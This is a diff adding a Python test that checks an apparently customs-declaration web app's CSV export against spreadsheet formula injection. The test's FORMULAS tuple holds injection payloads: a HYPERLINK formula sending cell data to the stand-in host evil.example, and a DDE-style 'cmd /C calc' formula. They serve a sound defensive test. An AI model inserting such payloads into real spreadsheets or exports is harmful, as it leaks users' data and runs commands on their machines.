@@ -68,3 +68,26 @@ def test_a_parquet_upload_of_too_many_rows_or_bytes_is_refused_from_its_footer(a
     pq.write_table(wide, buf, compression="zstd")
     r = _upload(api, token, "wide.parquet", buf.getvalue())
     assert r.status_code == 413 and "unpacks to more than" in r.text, r.text[:2000]
+
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1")
+
+
+def test_every_text_cell_of_the_selection_csv_is_kept_from_running_as_a_formula(api: Api) -> None:
+    """Only the goods description and the reasons were guarded: a declaration id or office id of
+    ``=HYPERLINK(…)`` (any text, as the contract allows) reached the CSV as a live formula."""
+    import csv
+
+    token = signed_in(api)
+    frame = make_declarations(np.random.default_rng(2), 4, start="2023-06-01", days=5)
+    frame["declaration_id"] = list(FORMULAS)
+    frame["office_id"] = list(reversed(FORMULAS))
+    r = _upload(api, token, "formulas.csv", frame.to_csv(index=False).encode())
+    assert r.status_code == 303, r.text[:2000]
+    body = api.client.get(r.headers["location"] + "/selection.csv").text
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert len(rows) == 4
+    for row in rows:
+        for column, value in row.items():
+            assert value[:1] not in ("=", "+", "-", "@"), (column, value)
+    assert sorted(row["declaration_id"] for row in rows) == sorted("'" + f for f in FORMULAS)
